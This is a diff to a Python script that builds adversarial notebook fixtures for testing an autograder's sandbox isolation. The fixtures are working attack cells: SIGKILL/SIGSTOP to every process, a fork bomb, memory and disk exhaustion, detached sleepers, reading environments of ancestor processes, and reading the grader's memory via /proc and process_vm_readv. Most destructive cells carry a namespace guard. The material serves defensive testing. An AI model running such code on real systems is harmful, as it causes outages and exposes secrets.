@@ -15,7 +15,8 @@ that the files in the repository are what this script writes.
 Attack cells print what they achieved (``<LABEL>-OK`` or ``<LABEL>: BLOCKED <error>``)
 so a test can read the executed notebook from the gradebook.  Where an attack
 needs a path only the test knows, the notebook holds a placeholder (``@SOURCE@``,
-``@GRADEBOOK@``) that the test substitutes before grading.
+``@GRADEBOOK@``; for the sealed-box attacks ``@HOST_PIDNS@``, ``@GRADER_PID@``, ``@NONCE@``)
+that the test substitutes before grading.
 
 Where an attack needs a wrong answer to profit from, the answer is wrong: with
 the attack neutralised, the tests it targets fail.
@@ -327,6 +328,271 @@ attempt("OPEN-GRADEBOOK-FOR-WRITING", lambda: open(GRADEBOOK, "r+b").close())
 attempt("CREATE-FILE-NEXT-TO-GRADEBOOK",
         lambda: open(os.path.join(os.path.dirname(GRADEBOOK), "planted-by-student.txt"), "w").write("x"))'''
 
+# -- sealed boxes (tests/test_sealed.py) ------------------------------------------------------------------
+# Attacks that would reach the whole machine outside a box (signal every process, fork thousands) first check
+# that they run in a PID namespace other than the grader's (@HOST_PIDNS@, substituted by the test) and are
+# refused anywhere else: as `nobody` they would hit every other `nobody` process on the machine, as root all.
+
+IN_A_BOX = '''\
+HOST_PIDNS = "@HOST_PIDNS@"  # the grader's PID namespace (the test substitutes it)
+REFUSED = "REFUSED: not in a PID namespace of its own, so this would reach processes outside the submission"
+
+def in_a_box():
+    """True only in a PID namespace other than the grader's: there every process it reaches is the submission's."""
+    import os
+    try:
+        return HOST_PIDNS.startswith("pid:[") and os.readlink("/proc/self/ns/pid") != HOST_PIDNS
+    except OSError:
+        return False
+'''
+
+KILL_EVERY_PROCESS = IN_A_BOX + '''
+import os, signal, time
+time.sleep(1.5)  # the neighbour's submission is under way by now, and the next slots are prepared
+if in_a_box():
+    os.kill(-1, signal.SIGKILL)  # every process this one may signal
+    print("KILL-ALL-SENT SIGKILL")
+else:
+    print("KILL-ALL:", REFUSED)'''
+
+STOP_EVERY_PROCESS = IN_A_BOX + '''
+import os, signal, time
+time.sleep(1.5)  # the neighbour's submission is under way by now, and the next slots are prepared
+if in_a_box():
+    os.kill(-1, signal.SIGSTOP)  # every process this one may signal
+    stopped = []
+    for entry in os.listdir("/proc"):  # and every one it can find, one by one
+        if entry.isdigit() and int(entry) != os.getpid():
+            try:
+                os.kill(int(entry), signal.SIGSTOP)
+                stopped.append(int(entry))
+            except OSError:
+                pass
+    print("STOP-ALL-SENT SIGSTOP to", len(stopped), "processes found in /proc")
+else:
+    print("STOP-ALL:", REFUSED)'''
+
+FORK_BOMB = IN_A_BOX + '''
+import os, time
+
+def fork_bomb(most=3000):
+    """Up to `most` children that each sleep 60 s; stop at the first fork that fails."""
+    made = 0
+    while made < most:
+        try:
+            pid = os.fork()
+        except OSError as e:
+            return made, f"{type(e).__name__}: {e}"
+        if pid == 0:
+            try:
+                time.sleep(60)
+            finally:
+                os._exit(0)
+        made += 1
+    return made, None
+
+if in_a_box():
+    made, failure = fork_bomb()
+    print("FORK-BOMB made", made, "children; stopped by", failure)
+else:
+    print("FORK-BOMB:", REFUSED)'''
+
+# Kernel and 4 engines each hold 400 MB (touched): 2 GB for one submission, twice its memory limit in the test.
+MEMORY_IN_EVERY_PROCESS = '''\
+HOLD = 400_000_000
+
+def hold(n):
+    global held
+    held = bytearray(n)
+    held[::4096] = b"\\1" * len(range(0, n, 4096))  # every page touched
+    return len(held)
+
+kernel_held = hold(HOLD)
+engines_held = dview.apply_sync(hold, HOLD)
+print("HOG-TOTAL-REACHED", (kernel_held + sum(engines_held)) // 10**6, "MB held by", 1 + len(engines_held), "processes")
+answer = 42'''
+
+FILL = '''\
+import os, signal
+
+def fill(folder, total=1_000_000_000, chunk=64 * 2**20):
+    """Write `total` bytes into `folder`, a new file per 64 MB chunk, stopping at the first error; the files stay."""
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a per-file size limit fails the write instead of killing
+    block = memoryview(b"\\1" * chunk)
+    written, failure, i = 0, None, 0
+    while written < total and failure is None:
+        try:
+            fd = os.open(os.path.join(folder, f"filler-{i}.bin"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+        except OSError as e:
+            failure = f"{type(e).__name__}: {e}"
+            break
+        try:
+            view = block[: min(chunk, total - written)]
+            while view:
+                try:
+                    n = os.write(fd, view)
+                except OSError as e:
+                    failure = f"{type(e).__name__}: {e}"
+                    break
+                written, view = written + n, view[n:]
+        finally:
+            os.close(fd)
+        i += 1
+    return written, failure
+'''
+
+FILL_TMP = FILL + '''
+written, failure = fill("/tmp")
+print(f"TMP-WROTE {written} bytes ({written // 2**20} MiB); stopped by {failure}")'''
+
+FILL_WORKDIR = FILL + '''
+written, failure = fill(os.getcwd())
+print(f"WORK-WROTE {written} bytes ({written // 2**20} MiB); stopped by {failure}")'''
+
+SETSID_SLEEPER = '''\
+NONCE = "@NONCE@"  # makes these sleepers this test's own (the test substitutes it)
+
+def detach(nonce):
+    """A grandchild in a session of its own that execs `env -i sleep 600 NONCE`: no token, no marker, no parent."""
+    import os
+    child = os.fork()
+    if child == 0:
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                os.execvp("env", ["env", "-i", "sleep", "600", nonce])
+        finally:
+            os._exit(0)
+    os.waitpid(child, 0)
+    return os.getpid()
+
+print("DETACHED-SLEEPERS from", [detach(NONCE)] + dview.apply_sync(detach, NONCE))'''
+
+PRINT_ENVIRONMENT = '''\
+import json
+
+def environment():
+    """This process's environment (os.environ and /proc/self/environ) and those of its ancestors it can read."""
+    import os
+
+    def read(path):
+        try:
+            with open(path, "rb") as f:
+                return f.read().replace(b"\\0", b"\\n").decode(errors="replace")
+        except OSError as e:
+            return f"BLOCKED {type(e).__name__}"
+
+    def parent_of(pid):
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                return int(f.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            return 0
+
+    ancestors, pid = {}, parent_of(os.getpid())  # the parent's, its parent's, ... (the grader's, outside a box)
+    while pid > 0 and len(ancestors) < 6:
+        ancestors[pid] = read(f"/proc/{pid}/environ")[:3000]
+        pid = parent_of(pid)
+    return {"pid": os.getpid(), "cwd": os.getcwd(), "environ": dict(os.environ),
+            "proc_self_environ": read("/proc/self/environ"), "ancestors": ancestors}
+
+print("ENV-KERNEL", json.dumps(environment()))'''
+
+PRINT_ENGINE_ENVIRONMENT = '''\
+for found in dview.apply_sync(environment):  # a cell of its own: the output cap is per cell
+    print("ENV-ENGINE", json.dumps(found))'''
+
+PROBE_NEIGHBOURS = ATTEMPT + '''
+import ctypes, errno, os
+
+GRADER = "@GRADER_PID@"  # the grader's PID as the grader sees it (the test substitutes it)
+grader = int(GRADER) if GRADER.isdigit() else -1
+
+numeric = sorted(int(e) for e in os.listdir("/proc") if e.isdigit())
+print("PROC-PIDS", len(numeric), numeric[:200])
+
+def tasks():
+    found = set()
+    for pid in numeric:
+        try:
+            found.update(int(t) for t in os.listdir(f"/proc/{pid}/task"))
+        except OSError:
+            pass
+    return found
+
+print("PROC-TASKS", len(tasks()))
+
+def signal_scan(top=1 << 16):
+    """IDs of tasks (processes and threads) that exist, found by signal 0 without /proc."""
+    found = []
+    for pid in range(1, top):
+        try:
+            os.kill(pid, 0)
+        except ProcessLookupError:
+            continue
+        except PermissionError:
+            pass
+        found.append(pid)
+    return found
+
+seen = signal_scan()
+print("SIGNAL-SCAN", len(seen), seen[:200])
+
+def cmdlines():
+    out = {}
+    for pid in numeric:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                out[pid] = f.read().replace(b"\\0", b" ").decode(errors="replace")[:120]
+        except OSError:
+            pass
+    return out
+
+print("PROC-CMDLINES", cmdlines())
+
+def first_mapping(pid):
+    try:
+        with open(f"/proc/{pid}/maps") as f:
+            return int(f.readline().split("-")[0], 16)
+    except (OSError, ValueError):
+        return 0x400000
+
+def read_mem():
+    with open(f"/proc/{grader}/mem", "rb") as f:
+        f.seek(first_mapping(grader))
+        return f.read(64)
+
+def vm_readv():
+    class iovec(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+    buf = ctypes.create_string_buffer(64)
+    local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(first_mapping(grader), 64)
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong,
+                                      ctypes.c_ulong]
+    n = libc.process_vm_readv(grader, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+    if n < 0:
+        err = ctypes.get_errno()
+        if err == errno.EFAULT:
+            return "permitted (the address was not mapped)"
+        raise OSError(err, os.strerror(err))
+    return buf.raw[:n]
+
+attempt("GRADER-SIGNAL", lambda: os.kill(grader, 0))
+attempt("GRADER-CMDLINE", lambda: open(f"/proc/{grader}/cmdline", "rb").read(200))
+attempt("GRADER-ENVIRON", lambda: open(f"/proc/{grader}/environ", "rb").read(200))
+attempt("GRADER-MEM", read_mem)
+attempt("GRADER-PROCESS-VM-READV", vm_readv)
+
+def identity():
+    import os
+    with open("/proc/self/timerslack_ns") as f:
+        return [os.getuid(), os.getgid(), int(f.read())]
+
+print("IDENTITY", {"kernel": identity(), "engines": dview.apply_sync(identity)})'''
+
+GOOD_SLOW = "import time\ntime.sleep(3)  # a long computation: still running when a neighbour attacks"
+
 
 # -- the files ---------------------------------------------------------------------------------------
 
@@ -446,6 +712,27 @@ def _sandbox() -> dict:
                        "writes-gradebook": (insert_after, "setup", WRITE_GRADEBOOK)})
 
 
+def insert_cells_after(nb, gid: str, sources: tuple) -> None:
+    insert_after(nb, gid, *sources)
+
+
+def _sealed() -> dict:
+    """Attacks on the box a submission runs in (tests/test_sealed.py), and a good submission that takes a while."""
+    after = "q1-hidden"  # the q1 tests have run and passed; q2 and its test come after the attack
+    return _good_with({
+        "kills-every-process": (insert_after, after, KILL_EVERY_PROCESS),
+        "stops-every-process": (insert_after, after, STOP_EVERY_PROCESS),
+        "fork-bomb": (insert_after, after, FORK_BOMB),
+        "memory-in-every-process": (set_source, "q2", MEMORY_IN_EVERY_PROCESS),
+        "fills-tmp": (insert_after, after, FILL_TMP),
+        "fills-workdir": (insert_after, after, FILL_WORKDIR),
+        "setsid-env-i-sleeper": (insert_after, after, SETSID_SLEEPER),
+        "prints-its-environment": (insert_cells_after, after, (PRINT_ENVIRONMENT, PRINT_ENGINE_ENVIRONMENT)),
+        "probes-neighbours": (insert_after, after, PROBE_NEIGHBOURS),
+        "good-slow": (insert_after, "setup", GOOD_SLOW),
+    })
+
+
 def _unreadable() -> dict[str, bytes]:
     text = _text(good())
     french = good()
@@ -458,11 +745,16 @@ def _unreadable() -> dict[str, bytes]:
         "truncated": text.encode()[: len(text) // 2],
         "binary": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise + b"\x00" * 64,
         "not-utf8": _text(french).encode("latin-1"),
+        # valid JSON, but nested 100,000 levels deep: json and nbformat raise RecursionError on it
+        "deeply-nested": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": ' + b"[" * 100_000
+                         + b"]" * 100_000 + b'}, "cells": []}\n',
     }
 
 
 PATCH_FILES = {"patches-helpers", "patches-builtins", "shadows-builtins"}
 SANDBOX_FILES = {"reads-instructor-files", "writes-gradebook"}
+SEALED_FILES = {"kills-every-process", "stops-every-process", "fork-bomb", "memory-in-every-process", "fills-tmp",
+                "fills-workdir", "setsid-env-i-sleeper", "prints-its-environment", "probes-neighbours", "good-slow"}
 
 
 def _text(nb, version: int = 4) -> str:
@@ -477,7 +769,7 @@ def fixtures() -> dict[str, bytes]:
     """{file name: bytes} of every fixture."""
     files: dict[str, bytes] = {"good.ipynb": _text(good()).encode(), "stub.ipynb": _text(stub()).encode(),
                                "good-02-patch.ipynb": _text(good(patch())).encode()}
-    for group in (_runaway(), _crashes(), _structure(), _cheating(), _sandbox()):
+    for group in (_runaway(), _crashes(), _structure(), _cheating(), _sandbox(), _sealed()):
         for name, nb in group.items():
             if isinstance(nb, tuple):
                 files[f"{name}.ipynb"] = _text(nb[1], version=3).encode()
